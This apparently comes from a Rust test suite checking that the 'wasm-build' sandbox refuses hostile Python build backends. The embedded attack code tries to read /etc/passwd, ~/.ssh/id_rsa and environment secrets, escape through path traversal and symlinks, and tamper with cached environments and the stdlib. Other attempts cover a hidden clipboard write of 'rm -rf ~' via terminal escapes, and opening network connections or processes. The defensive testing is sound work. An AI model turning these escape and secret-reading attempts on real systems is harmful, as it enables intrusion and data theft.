//! The hostile suite (issue 4): backends and sdists written by an attacker, run by the real
//! `wasm-build` binary in the real interpreter under wasmtime.
//!
//! Each test attacks one guarantee of `docs/security.md` and checks two things: the specific
//! refusal (exit code and message, or what the backend could see, reported from inside the
//! sandbox), and that nothing of the host changed (see [`Scene`]). Hostile backends are the
//! in-tree test backend (`tests/fixtures/intree/_build/backend.py`) with attack code
//! appended, so that everything but the attack is a backend known to build correct wheels.

mod common;
// Who may write the cache, and what it holds verified against a key it does not hold.
#[path = "hostile/bounds.rs"]
mod bounds;
#[path = "hostile/cache.rs"]
mod cache;
#[path = "hostile/output.rs"]
mod output;

use common::*;
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

/// Secrets the host holds. No output of wasm-build may ever contain one (unless the user
/// passes it with `--env`).
const SECRET_NEXT_TO_PROJECT: &str = "canary-next-to-the-project-5b1f0c";
const SECRET_IN_HOME: &str = "canary-in-the-home-folder-9d27e4";
const SECRET_IN_ENV: &str = "canary-in-an-env-var-3a8c61";
const SECRET_IN_CACHE: &str = "canary-in-the-cache-e07b52";
const SECRETS: [&str; 4] = [
    SECRET_NEXT_TO_PROJECT,
    SECRET_IN_HOME,
    SECRET_IN_ENV,
    SECRET_IN_CACHE,
];
/// The host environment variable holding [`SECRET_IN_ENV`].
const SECRET_VAR: &str = "WASM_BUILD_TEST_SECRET_TOKEN";

const PROJECT: &str = "hostile-demo";
const PACKAGE: &str = "hostile_demo";
const VERSION: &str = "1.0";
const WHEEL: &str = "hostile_demo-1.0-py3-none-any.whl";
const SDIST: &str = "hostile_demo-1.0.tar.gz";

/// A host as an attacker finds it, in one temporary folder:
///
/// ```text
/// host/canary.txt          a secret next to the project
/// host/home/.ssh/id_rsa    a secret in the user's home (HOME points here)
/// host/project/            the project being built
/// tmp/                     wasm-build's TMPDIR: its scratch folders live here
/// out/                     the output folder (absent until a build succeeds)
/// ```
///
/// [`Scene::check_host_unchanged`] compares `host/` with its snapshot from before the build,
/// requires `tmp/` to be empty again, and nothing new next to these three.
struct Scene {
    root: tempfile::TempDir,
    before: BTreeMap<PathBuf, String>,
}

impl Scene {
    /// A scene whose project is the in-tree backend with `hostile` appended.
    fn with_backend(hostile: &str) -> Self {
        Self::build(|scene| write_project(&scene.project(), hostile, &[]))
    }

    /// A scene whose project `setup` writes (it may also add files next to it).
    fn build(setup: impl FnOnce(&Scene)) -> Self {
        let root = tempfile::tempdir().unwrap();
        let mut scene = Scene {
            root,
            before: BTreeMap::new(),
        };
        fs::create_dir_all(scene.home().join(".ssh")).unwrap();
        fs::write(scene.home().join(".ssh/id_rsa"), SECRET_IN_HOME).unwrap();
        fs::write(scene.canary(), SECRET_NEXT_TO_PROJECT).unwrap();
        fs::create_dir(scene.tmp()).unwrap();
        fs::create_dir(scene.project()).unwrap();
        setup(&scene);
        scene.before = snapshot(&scene.host());
        scene
    }

    fn host(&self) -> PathBuf {
        self.root.path().join("host")
    }
    fn home(&self) -> PathBuf {
        self.host().join("home")
    }
    fn canary(&self) -> PathBuf {
        self.host().join("canary.txt")
    }
    fn project(&self) -> PathBuf {
        self.host().join("project")
    }
    fn tmp(&self) -> PathBuf {
        self.root.path().join("tmp")
    }
    fn out(&self) -> PathBuf {
        self.root.path().join("out")
    }

    /// `wasm-build` with this scene's HOME, TMPDIR, a secret in the environment, and the
    /// scene's output folder; the source is added by the caller.
    fn cmd(&self) -> Command {
        let mut cmd = wasm_build();
        cmd.env("HOME", self.home())
            .env("TMPDIR", self.tmp())
            .env(SECRET_VAR, SECRET_IN_ENV)
            .arg("-o")
            .arg(self.out());
        cmd
    }

    /// `wasm-build PROJECT --wheel` plus `args`.
    fn wheel_cmd(&self, args: &[&str]) -> Command {
        let mut cmd = self.cmd();
        cmd.arg(self.project()).arg("--wheel").args(args);
        cmd
    }

    /// [`Scene::wheel_cmd`] without the network: build requirements from the find-links
    /// folder `wheels` only.
    fn offline_cmd(&self, wheels: &tempfile::TempDir) -> Command {
        ensure_runtime();
        let mut cmd = self.wheel_cmd(&["--offline", "--find-links"]);
        cmd.arg(wheels.path());
        cmd
    }

    /// The host-side guarantees every test ends with.
    fn check_host_unchanged(&self) {
        assert_eq!(
            snapshot(&self.host()),
            self.before,
            "the build changed the host's files (canaries, home or project)"
        );
        assert_eq!(
            listing(&self.tmp()),
            Vec::<String>::new(),
            "scratch folders were left behind in TMPDIR"
        );
        let mut expected = vec!["host".to_string(), "tmp".to_string()];
        if self.out().exists() {
            expected.insert(1, "out".to_string());
        }
        assert_eq!(listing(self.root.path()), expected, "a file escaped");
        assert_eq!(fs::read_to_string(cache_canary()).unwrap(), SECRET_IN_CACHE);
    }

    /// Runs a build that must fail with `code`, checks each of `expected` is in its
    /// stderr, that no secret is, that the output folder was not created, and that the
    /// host is unchanged. Returns stderr.
    fn fails(&self, cmd: &mut Command, code: i32, expected: &[&str]) -> String {
        let stderr = build_fails(cmd, code);
        for text in expected {
            assert!(stderr.contains(text), "expected {text:?} in:\n{stderr}");
        }
        assert_no_secrets("stderr", stderr.as_bytes());
        assert!(!self.out().exists(), "a failed build created the outdir");
        self.check_host_unchanged();
        stderr
    }

    /// Runs a wheel build that must succeed and returns what the backend reported from
    /// inside the sandbox (its `report.json`), after checking that the output folder holds
    /// the wheel alone and that no output contains a secret.
    fn report(&self, cmd: &mut Command) -> BTreeMap<String, String> {
        self.report_and_stderr(cmd).0
    }

    /// [`Scene::report`], and what wasm-build printed on stderr.
    fn report_and_stderr(&self, cmd: &mut Command) -> (BTreeMap<String, String>, String) {
        let output = run(cmd);
        assert!(output.status.success(), "the hostile build failed");
        assert_no_secrets("stdout", &output.stdout);
        assert_no_secrets("stderr", &output.stderr);
        assert_eq!(
            listing(&self.out()),
            [WHEEL],
            "the outdir holds the wheel alone"
        );
        let wheel = self.out().join(WHEEL);
        for name in zip_names(&wheel) {
            assert_no_secrets(&name, &zip_member(&wheel, &name));
        }
        self.check_host_unchanged();
        let report: BTreeMap<String, String> =
            serde_json::from_slice(&zip_member(&wheel, &format!("{PACKAGE}/report.json"))).unwrap();
        eprintln!("--- what the backend saw\n{report:#?}");
        (report, String::from_utf8_lossy(&output.stderr).into_owned())
    }
}

/// Builds the project of [`Scene::with_backend`]`(hostile)` with `args`: the build must
/// fail with `code` and `expected` (see [`Scene::fails`]). Returns stderr.
fn backend_fails(hostile: &str, args: &[&str], code: i32, expected: &[&str]) -> String {
    let scene = Scene::with_backend(hostile);
    let mut cmd = scene.cmd();
    cmd.arg(scene.project()).args(args);
    scene.fails(&mut cmd, code, expected)
}

/// An `--offline` build cannot fetch the interpreter: on a cold shared cache, one ordinary
/// build provisions it first.
fn ensure_runtime() {
    static READY: std::sync::Once = std::sync::Once::new();
    READY.call_once(|| {
        let scene = Scene::with_backend("");
        build_ok(&mut scene.wheel_cmd(&[]));
    });
}

/// A secret in the shared cache, written once per test process (tests run in parallel and
/// read it back), by rename so that it is never seen half-written.
fn cache_canary() -> PathBuf {
    static WRITTEN: std::sync::Once = std::sync::Once::new();
    let path = shared_cache().join("hostile-canary.txt");
    WRITTEN.call_once(|| {
        fs::create_dir_all(shared_cache()).unwrap();
        let tmp = tempfile::NamedTempFile::new_in(shared_cache()).unwrap();
        fs::write(tmp.path(), SECRET_IN_CACHE).unwrap();
        tmp.persist(&path).unwrap();
    });
    path
}

fn assert_no_secrets(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for secret in SECRETS {
        assert!(
            !text.contains(secret),
            "{what} holds the secret {secret}:\n{text}"
        );
    }
}

/// Asserts that every attempt in `labels` was refused inside the sandbox.
fn assert_refused(report: &BTreeMap<String, String>, labels: &[&str]) {
    for label in labels {
        let outcome = report
            .get(*label)
            .unwrap_or_else(|| panic!("no outcome for {label:?} in {report:#?}"));
        assert!(
            outcome.starts_with("refused: "),
            "the sandbox allowed {label:?}: {outcome}"
        );
    }
}

/// What the backend is told about the host: paths it should never reach. A JSON object of
/// strings and numbers is also a Python literal.
fn host_facts(scene: &Scene, extra: &[(&str, serde_json::Value)]) -> String {
    let mut facts = serde_json::json!({
        "canary": scene.canary(),
        "home": scene.home(),
        "home_secret": scene.home().join(".ssh/id_rsa"),
        "project": scene.project(),
        "cache": shared_cache(),
        "cache_canary": cache_canary(),
        "tmp": scene.tmp(),
    });
    for (key, value) in extra {
        facts[*key] = value.clone();
    }
    facts.to_string()
}

/// Helpers every hostile backend gets, appended after the in-tree backend.
const PRELUDE: &str = r#"
# ---- hostile test prelude (tests/hostile.rs) -------------------------------------------
import json as _json
import sys


def attempt(report, label, action):
    """Runs action(); records what it returned, or the exception that refused it."""
    try:
        value = action()
    except Exception as e:
        report[label] = "refused: %s: %s" % (type(e).__name__, e)
    else:
        report[label] = "allowed: %r" % (value,)


def read(path):
    with open(path, "rb") as f:
        return f.read()


def write(path, data=b"pwned", mode="wb"):
    with open(path, mode) as f:
        f.write(data)
    return "wrote"


def wheel_name():
    name, package, version = _project()
    return "%s-%s-py3-none-any.whl" % (package, version)


def good_wheel(wheel_directory, extra_files=None):
    """A correct wheel; extra_files ({path in the package: text}) are added to it."""
    name, package, version = _project()
    for path, text in (extra_files or {}).items():
        with open(os.path.join(package, path), "w") as f:
            f.write(text)
    return write_wheel(wheel_directory, wheel_name(), wheel_members(name, package, version))


def finish_wheel(wheel_directory, report):
    """A correct wheel carrying report.json: what the backend saw, for the test to read."""
    return good_wheel(wheel_directory, {"report.json": _json.dumps(report, sort_keys=True, indent=1)})


def rerecord(members):
    """RECORD recomputed for the members as they are now, so that only the tampering
    a test means is wrong."""
    record_path = [p for p in members if p.endswith(".dist-info/RECORD")][0]
    del members[record_path]
    lines = [_record_line(p, d) for p, d in members.items()] + [record_path + ",,"]
    members[record_path] = ("\n".join(lines) + "\n").encode()
    return members


class Pairs(list):
    """Members as (path, bytes) pairs for write_wheel, so that a name can repeat."""

    def items(self):
        return self

# ---- the attack --------------------------------------------------------------------------
"#;

/// Writes the hostile project: pyproject.toml (with `requires`), the in-tree backend with
/// [`PRELUDE`] and `hostile` appended, and the package.
fn write_project(dir: &Path, hostile: &str, requires: &[&str]) {
    let requires: Vec<String> = requires.iter().map(|r| format!("{r:?}")).collect();
    fs::write(
        dir.join("pyproject.toml"),
        format!(
            "[build-system]\nrequires = [{}]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n\
             [project]\nname = \"{PROJECT}\"\nversion = \"{VERSION}\"\n",
            requires.join(", ")
        ),
    )
    .unwrap();
    fs::create_dir_all(dir.join("_build")).unwrap();
    let base = fs::read_to_string(fixtures().join("intree/_build/backend.py")).unwrap();
    fs::write(
        dir.join("_build/backend.py"),
        format!("{base}{PRELUDE}{hostile}\n"),
    )
    .unwrap();
    fs::create_dir_all(dir.join(PACKAGE)).unwrap();
    fs::write(dir.join(PACKAGE).join("__init__.py"), "VALUE = 1\n").unwrap();
}

/// The control for every hostile backend: the prelude and the project build a correct
/// wheel, so each refusal below is the attack's doing.
#[test]
fn control_the_hostile_base_builds_a_correct_wheel() {
    let scene = Scene::with_backend(
        r#"
import select
import time

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {"control": "ok"}
    # Short sleeps still work under the time limit's wrapper of poll_oneoff.
    for label, sleep in [("time.sleep", lambda: time.sleep(0.2)),
                         ("select", lambda: select.select([], [], [], 0.2))]:
        start = time.monotonic()
        sleep()
        report[label] = "%.2f" % (time.monotonic() - start)
    return finish_wheel(wheel_directory, report)
"#,
    );
    let report = scene.report(&mut scene.wheel_cmd(&["--timeout", "60"]));
    assert_eq!(report["control"], "ok");
    for sleep in ["time.sleep", "select"] {
        let slept: f64 = report[sleep].parse().unwrap();
        assert!((0.2..5.0).contains(&slept), "{sleep} slept {slept} s");
    }
}

// ---- reading the host ---------------------------------------------------------------------

/// The backend reads every host secret it knows the path of, by absolute path, through
/// `..`, through `~` and by listing folders: each attempt is refused inside the sandbox and
/// no secret reaches the wheel, the log or any output.
#[test]
fn host_files_home_and_cache_are_unreadable() {
    let scene = Scene::build(|scene| {
        let hostile = format!(
            r#"
HOST = {facts}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {{}}
    attempt(report, "read /etc/passwd", lambda: read("/etc/passwd"))
    attempt(report, "read /etc/hostname", lambda: read("/etc/hostname"))
    attempt(report, "read /proc/self/environ", lambda: read("/proc/self/environ"))
    attempt(report, "read the canary by its host path", lambda: read(HOST["canary"]))
    attempt(report, "read the canary through /src/..", lambda: read("/src/../canary.txt"))
    attempt(report, "read the canary through ../ from the cwd", lambda: read("../canary.txt"))
    attempt(report, "read the canary through /src/../../..", lambda: read("/src/../../.." + HOST["canary"]))
    attempt(report, "read the home secret by its host path", lambda: read(HOST["home_secret"]))
    attempt(report, "read ~/.ssh/id_rsa", lambda: read(os.path.expanduser("~/.ssh/id_rsa")))
    attempt(report, "list the host home", lambda: os.listdir(HOST["home"]))
    attempt(report, "read the cache canary", lambda: read(HOST["cache_canary"]))
    attempt(report, "list the cache", lambda: os.listdir(HOST["cache"]))
    attempt(report, "list the host project", lambda: os.listdir(HOST["project"]))
    attempt(report, "list the host TMPDIR", lambda: os.listdir(HOST["tmp"]))
    attempt(report, "read stdin", lambda: sys.stdin.read())
    # wasmtime lets the guest make a link that climbs out of its mount, but not follow it.
    attempt(report, "make a link out of /tmp", lambda: os.symlink("../" * 12 + HOST["canary"][1:], "/tmp/out-link"))
    attempt(report, "read through the link", lambda: read("/tmp/out-link"))
    attempt(report, "make a link to /src/..", lambda: os.symlink("..", "/src/parent"))
    attempt(report, "list through the link", lambda: os.listdir("/src/parent"))
    report["cwd"] = os.getcwd()
    report["home"] = os.path.expanduser("~")
    report["listdir /"] = repr(sorted(os.listdir("/")))
    attempt(report, "list /src/..", lambda: os.listdir("/src/.."))
    return finish_wheel(wheel_directory, report)
"#,
            facts = host_facts(scene, &[])
        );
        write_project(&scene.project(), &hostile, &[]);
    });
    let report = scene.report(&mut scene.wheel_cmd(&[]));
    assert_refused(
        &report,
        &[
            "read /etc/passwd",
            "read /etc/hostname",
            "read /proc/self/environ",
            "read the canary by its host path",
            "read the canary through /src/..",
            "read the canary through ../ from the cwd",
            "read the canary through /src/../../..",
            "read the home secret by its host path",
            "read ~/.ssh/id_rsa",
            "list the host home",
            "read the cache canary",
            "list the cache",
            "list the host project",
            "list the host TMPDIR",
            "list /src/..",
            "read through the link",
            "list through the link",
        ],
    );
    assert_eq!(report["make a link out of /tmp"], "allowed: None");
    assert_eq!(report["make a link to /src/.."], "allowed: None");
    // stdin is closed: reading it ends at once instead of waiting for the user.
    assert_eq!(report["read stdin"], "allowed: ''");
    assert_eq!(report["cwd"], "/src");
    assert_eq!(report["home"], "/tmp/home");
    // `/` is an empty read-only folder: the host's root is nowhere to be seen.
    assert_eq!(report["listdir /"], "[]");
}

/// The guest's environment is a fixed set: a secret in the host's environment is not in it.
/// `--env KEY` copies one variable on purpose, `--env KEY=VALUE` sets one (the way to give
/// setuptools-scm a version it cannot get from git in the sandbox).
#[test]
fn host_environment_is_invisible_unless_passed() {
    let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {"environ": _json.dumps(dict(os.environ), sort_keys=True)}
    return finish_wheel(wheel_directory, report)
"#;
    let scene = Scene::with_backend(hostile);
    let report = scene.report(&mut scene.wheel_cmd(&[]));
    let environ: BTreeMap<String, String> = serde_json::from_str(&report["environ"]).unwrap();
    assert_eq!(
        environ.keys().collect::<Vec<_>>(),
        [
            "HOME",
            "LANG",
            "PYTHONDONTWRITEBYTECODE",
            "PYTHONHASHSEED",
            "TMPDIR"
        ],
        "the guest saw more than the fixed environment: {environ:#?}"
    );
    assert_eq!(environ["HOME"], "/tmp/home");
    assert_eq!(environ["TMPDIR"], "/tmp");

    // Passed explicitly, by name and by value: the user decided to share these.
    let scene = Scene::with_backend(hostile);
    let output = run(scene
        .wheel_cmd(&[])
        .arg("--env")
        .arg(SECRET_VAR)
        .args(["--env", "SETUPTOOLS_SCM_PRETEND_VERSION=1.2.3"]));
    assert!(output.status.success());
    let wheel = scene.out().join(WHEEL);
    let report: BTreeMap<String, String> =
        serde_json::from_slice(&zip_member(&wheel, &format!("{PACKAGE}/report.json"))).unwrap();
    let environ: BTreeMap<String, String> = serde_json::from_str(&report["environ"]).unwrap();
    assert_eq!(environ[SECRET_VAR], SECRET_IN_ENV);
    assert_eq!(environ["SETUPTOOLS_SCM_PRETEND_VERSION"], "1.2.3");
    assert_eq!(environ.len(), 7, "{environ:#?}");
    scene.check_host_unchanged();
}

// ---- writing outside the scratch folders --------------------------------------------------

/// A pure-Python wheel `hostile_helper` at `version` (one module, `VALUE = "pristine"`) in
/// a find-links folder of its own, so a hostile project can have a non-empty build
/// environment without the network. Each test uses its own version, hence its own
/// environment in the shared cache.
fn helper_wheel_dir(version: &str) -> tempfile::TempDir {
    wheel_dir(
        "hostile-helper",
        version,
        &[("hostile_helper/__init__.py", b"VALUE = \"pristine\"\n")],
    )
}

/// The cached build environment holding `hostile_helper` at `version`: its site-packages.
fn helper_environment(version: &str) -> PathBuf {
    let envs = shared_cache().join(wasm_build_packaging::cache::Bucket::Envs.dir_name());
    // The one the last build used: the shared cache may also hold environments made for
    // another runtime (one with other pins, from an earlier test run).
    fs::read_dir(&envs)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|env| {
            env.join(format!("site-packages/hostile_helper-{version}.dist-info"))
                .is_dir()
        })
        .max_by_key(|env| {
            fs::metadata(env.join("last-used"))
                .and_then(|m| m.modified())
                .ok()
        })
        .map(|env| env.join("site-packages"))
        .expect("the build environment with hostile_helper is cached")
}

/// The backend tries every way to write outside `/out`, `/tmp` and `/src` (the scratch
/// folders): the empty root, `/src`'s parent, the build environment (including the
/// wasmtime-wasi permission bypasses of 2026: truncation on open, hard links and renames
/// into a read-only folder, and a hard link out of one), the runner and the stdlib. Each is
/// refused; on the host the build environment still matches its seal, and a second build
/// imports the unchanged helper.
#[test]
fn writes_outside_the_scratch_folders_are_refused() {
    let wheels = helper_wheel_dir("1.0");
    let hostile = r#"
ENV = "/wasm-build/env/hostile_helper/__init__.py"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {}
    write("/tmp/staged", b"staged")
    write("/tmp/staged2", b"staged")
    # The empty root and the source tree's parent.
    attempt(report, "create /escape.txt", lambda: write("/escape.txt"))
    attempt(report, "mkdir /escape", lambda: os.mkdir("/escape"))
    attempt(report, "create /src/../escape.txt", lambda: write("/src/../escape.txt"))
    attempt(report, "create ../escape.txt from the cwd", lambda: write("../escape.txt"))
    attempt(report, "create /wasm-build/escape.txt", lambda: write("/wasm-build/escape.txt"))
    # The build environment.
    attempt(report, "overwrite an env module", lambda: write(ENV, b"VALUE = 'pwned'\n"))
    attempt(report, "append to an env module", lambda: write(ENV, b"VALUE = 'pwned'\n", "ab"))
    attempt(report, "open an env module O_RDONLY|O_TRUNC", lambda: os.open(ENV, os.O_RDONLY | os.O_TRUNC))
    attempt(report, "open an env module O_WRONLY", lambda: os.open(ENV, os.O_WRONLY))
    attempt(report, "truncate an env module by path", lambda: os.truncate(ENV, 0))
    fd = os.open(ENV, os.O_RDONLY)
    attempt(report, "ftruncate a read-only fd of an env module", lambda: os.ftruncate(fd, 0))
    attempt(report, "write to a read-only fd of an env module", lambda: os.write(fd, b"x"))
    os.close(fd)
    attempt(report, "create a .pth in the env", lambda: write("/wasm-build/env/evil.pth", b"import os\n"))
    attempt(report, "mkdir in the env", lambda: os.mkdir("/wasm-build/env/evil"))
    attempt(report, "hard link into the env", lambda: os.link("/tmp/staged", "/wasm-build/env/linked.pth"))
    attempt(report, "rename into the env", lambda: os.rename("/tmp/staged2", "/wasm-build/env/renamed.pth"))
    attempt(report, "rename over an env module", lambda: os.replace("/tmp/staged2", ENV))
    attempt(report, "symlink into the env", lambda: os.symlink("/tmp/staged", "/wasm-build/env/sym.pth"))
    attempt(report, "hard link out of the env", lambda: os.link(ENV, "/tmp/env-inode"))
    attempt(report, "rename out of the env", lambda: os.rename(ENV, "/tmp/env-moved"))
    attempt(report, "unlink an env module", lambda: os.unlink(ENV))
    attempt(report, "rmdir an env folder", lambda: os.rmdir("/wasm-build/env/hostile_helper-1.0.dist-info"))
    attempt(report, "set times of an env module", lambda: os.utime(ENV, (0, 0)))
    # The runner and the stdlib.
    attempt(report, "overwrite the runner", lambda: write("/wasm-build/runner/hook_runner.py"))
    attempt(report, "create a file in the runner folder", lambda: write("/wasm-build/runner/evil.py"))
    attempt(report, "overwrite the stdlib's os.py", lambda: write(os.__file__))
    attempt(report, "create a module in the stdlib", lambda: write(os.path.join(os.path.dirname(os.__file__), "evil.py")))
    attempt(report, "create /usr/local/evil.py", lambda: write("/usr/local/evil.py"))
    import hostile_helper
    report["helper"] = hostile_helper.VALUE
    report["stdlib"] = os.path.dirname(os.__file__)
    return finish_wheel(wheel_directory, report)
"#;
    let setup = |scene: &Scene| write_project(&scene.project(), hostile, &["hostile-helper==1.0"]);
    let scene = Scene::build(setup);
    let report = scene.report(&mut scene.offline_cmd(&wheels));
    let attempts: Vec<&str> = report
        .keys()
        .map(String::as_str)
        .filter(|k| !["helper", "stdlib"].contains(k))
        .collect();
    assert_eq!(attempts.len(), 28, "{report:#?}");
    assert_refused(&report, &attempts);
    assert_eq!(report["helper"], "pristine");

    // On the host: the environment is exactly what was sealed, not merely equal in content
    // (the fingerprint covers inode and change times, which any write would change).
    let site_packages = helper_environment("1.0");
    let env_dir = site_packages.parent().unwrap();
    // (Each record's first line; the second is its tag under the seal key.)
    let seal = fs::read_to_string(env_dir.with_extension("seal")).unwrap();
    assert_eq!(
        wasm_build::integrity::fingerprint(&site_packages).unwrap(),
        seal.lines().next().unwrap(),
        "the build environment changed"
    );
    let manifest = fs::read_to_string(env_dir.join("manifest.sha256")).unwrap();
    assert_eq!(
        wasm_build::integrity::manifest(&site_packages)
            .unwrap()
            .sha256,
        manifest.lines().next().unwrap()
    );
    // The interpreter in the cache still has its pinned hash.
    let catalog = wasm_build::runtime::Catalog::builtin().unwrap();
    let pinned = &catalog.get(&catalog.default).unwrap().module.sha256;
    let runtimes = shared_cache().join(wasm_build_packaging::cache::Bucket::Runtimes.dir_name());
    // (The cache may also hold earlier pinned versions, each in its own folder.)
    let module = runtimes
        .join(format!("{}-{}", catalog.default, &pinned[..16]))
        .join("python.wasm");
    assert_eq!(
        &wasm_build_packaging::cache::sha256_file(&module).unwrap().0,
        pinned
    );

    // A second build in the same environment still works and sees the pristine helper.
    let scene = Scene::build(setup);
    let report = scene.report(&mut scene.offline_cmd(&wheels));
    assert_eq!(report["helper"], "pristine");
}

/// wasmtime-wasi's permission checks have had bypasses, so the host does not take a
/// read-only mount's integrity on trust: a cached build environment changed on disk (here
/// by the test, standing in for such a bypass) is found out before its next use and made
/// again; the backend imports the pristine helper.
#[test]
fn a_tampered_build_environment_is_made_again() {
    use std::os::unix::fs::PermissionsExt;
    let wheels = helper_wheel_dir("2.0");
    let build = || {
        let scene = Scene::build(|scene| {
            let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import hostile_helper
    return finish_wheel(wheel_directory, {"helper": hostile_helper.VALUE})
"#;
            write_project(&scene.project(), hostile, &["hostile-helper==2.0"]);
        });
        scene.report_and_stderr(&mut scene.offline_cmd(&wheels))
    };
    assert_eq!(build().0["helper"], "pristine");
    let module = helper_environment("2.0").join("hostile_helper/__init__.py");
    fs::set_permissions(&module, fs::Permissions::from_mode(0o644)).unwrap();
    fs::write(&module, "VALUE = 'tampered'\n").unwrap();
    let (report, stderr) = build();
    assert!(
        stderr.contains("warning: cached build environment ")
            && stderr.contains(" was changed (content manifest is "),
        "{stderr}"
    );
    assert_eq!(report["helper"], "pristine");
}

// ---- the user's terminal --------------------------------------------------------------

/// The backend's output, traceback and exception message reach the user's terminal: escape
/// sequences in them (here: clear the screen, write the clipboard with OSC 52, set the
/// window title, and a carriage return to overwrite a line) must arrive inert, with `-v`
/// (streamed) and without (shown after the failure).
#[test]
fn escape_sequences_cannot_drive_the_terminal() {
    let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    print("\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;pwned\x07")
    print("progress\r* Built totally-legit-1.0-py3-none-any.whl", file=sys.stderr)
    raise RuntimeError("\x1b[8mhidden\x1b[0m")
"#;
    for verbose in [false, true] {
        let scene = Scene::with_backend(hostile);
        let mut cmd = scene.wheel_cmd(if verbose { &["-v"] } else { &[] });
        let stderr = scene.fails(&mut cmd, 5, &["RuntimeError"]);
        for (byte, what) in [('\x1b', "ESC"), ('\x07', "BEL"), ('\r', "carriage return")] {
            assert!(
                !stderr.contains(byte),
                "an {what} reached the terminal (verbose: {verbose}):\n{stderr:?}"
            );
        }
        // Shown, escaped, rather than dropped: the user sees what the backend tried.
        assert!(stderr.contains("\\x1b[2J"), "{stderr}");
    }
}

// ---- the network and other processes ------------------------------------------------------

/// The backend tries to reach a listener the test runs on 127.0.0.1 (raw socket, HTTP,
/// name lookup), and to start processes and threads: each is refused, and the listener
/// never sees a connection.
#[test]
fn no_network_no_processes() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let scene = Scene::build(|scene| {
        let hostile = format!(
            r#"
HOST = {facts}

def connect():
    import socket
    return socket.create_connection(("127.0.0.1", HOST["port"]), timeout=2)

def raw_socket():
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", HOST["port"]))
    return s

def http():
    import urllib.request
    return urllib.request.urlopen("http://127.0.0.1:%d/" % HOST["port"], timeout=2).read()

def lookup():
    import socket
    return socket.getaddrinfo("localhost", HOST["port"])

def subprocess_run():
    import subprocess
    return subprocess.run(["git", "describe"], capture_output=True)

def thread():
    import threading
    t = threading.Thread(target=lambda: None)
    t.start()
    t.join()

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {{}}
    attempt(report, "connect to the host's listener", connect)
    attempt(report, "raw socket to the host's listener", raw_socket)
    attempt(report, "HTTP to the host's listener", http)
    attempt(report, "resolve localhost", lookup)
    attempt(report, "run git", subprocess_run)
    attempt(report, "os.system", lambda: os.system("true") and 1 / 0)
    attempt(report, "os.fork", lambda: os.fork())
    attempt(report, "os.kill", lambda: os.kill(1, 9))
    attempt(report, "start a thread", thread)
    attempt(report, "load a library with ctypes", lambda: __import__("ctypes").CDLL(None))
    return finish_wheel(wheel_directory, report)
"#,
            facts = host_facts(scene, &[("port", port.into())])
        );
        write_project(&scene.project(), &hostile, &[]);
    });
    let report = scene.report(&mut scene.wheel_cmd(&[]));
    let all: Vec<&str> = report.keys().map(String::as_str).collect();
    assert_eq!(all.len(), 10, "{report:#?}");
    assert_refused(&report, &all);
    assert!(
        report["run git"]
            .contains("FileNotFoundError: [Errno 44] No such file or directory: 'git'"),
        "{report:#?}"
    );
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the listener saw a connection: {other:?}"),
    }
}

/// Without the error handling above, a backend that shells out (setuptools-scm asking git
/// for the version, say) fails as on a machine without git, naming the program.
#[test]
fn a_backend_that_runs_a_process_fails_as_on_a_machine_without_it() {
    backend_fails(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import subprocess
    subprocess.run(["git", "describe", "--tags"], check=True)
"#,
        &["--wheel"],
        5,
        &[
            "hook `build_wheel` of build backend `backend` failed",
            "FileNotFoundError: [Errno 44] No such file or directory: 'git'",
            "hint: the backend tried to start `git describe --tags`, which the sandbox does not have",
        ],
    );
}

// ---- symlinks in the source tree ----------------------------------------------------------

/// The project holds links to the canary next to it (relative and absolute) and to the
/// home folder: staging skips them with a warning, so in the sandbox they do not exist and
/// the backend cannot read through them. A link inside the tree is kept.
#[test]
fn symlinks_out_of_the_source_tree_are_not_followed() {
    let scene = Scene::build(|scene| {
        let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {}
    for name in ["leak.txt", "abs.txt", "home", "inside.py"]:
        report[name + " exists"] = repr(os.path.lexists(name))
        attempt(report, "read " + name, lambda: read(name) if name != "home" else os.listdir(name))
    return finish_wheel(wheel_directory, report)
"#;
        let project = scene.project();
        write_project(&project, hostile, &[]);
        std::os::unix::fs::symlink("../canary.txt", project.join("leak.txt")).unwrap();
        std::os::unix::fs::symlink(scene.canary(), project.join("abs.txt")).unwrap();
        std::os::unix::fs::symlink(scene.home(), project.join("home")).unwrap();
        std::os::unix::fs::symlink("hostile_demo/__init__.py", project.join("inside.py")).unwrap();
    });
    let (report, stderr) = scene.report_and_stderr(&mut scene.wheel_cmd(&[]));
    for warning in [
        "warning: skipped symlink `leak.txt` -> `../canary.txt`: it points outside the source tree",
        "warning: skipped symlink `abs.txt` -> ",
        "`: its target is absolute",
        "warning: skipped symlink `home` -> ",
    ] {
        assert!(
            stderr.contains(warning),
            "expected {warning:?} in:\n{stderr}"
        );
    }
    for name in ["leak.txt", "abs.txt", "home"] {
        assert_eq!(report[&format!("{name} exists")], "False");
    }
    assert_refused(&report, &["read leak.txt", "read abs.txt", "read home"]);
    assert_eq!(report["inside.py exists"], "True");
    assert_eq!(report["read inside.py"], "allowed: b'VALUE = 1\\n'");
}

// ---- hostile sdists -----------------------------------------------------------------------

/// One tar member with raw fields: the `tar` crate's own setters refuse the names an
/// attacker uses.
#[derive(Clone, Copy)]
struct Member<'a> {
    name: &'a str,
    kind: tar::EntryType,
    data: &'a [u8],
    link: Option<&'a str>,
}

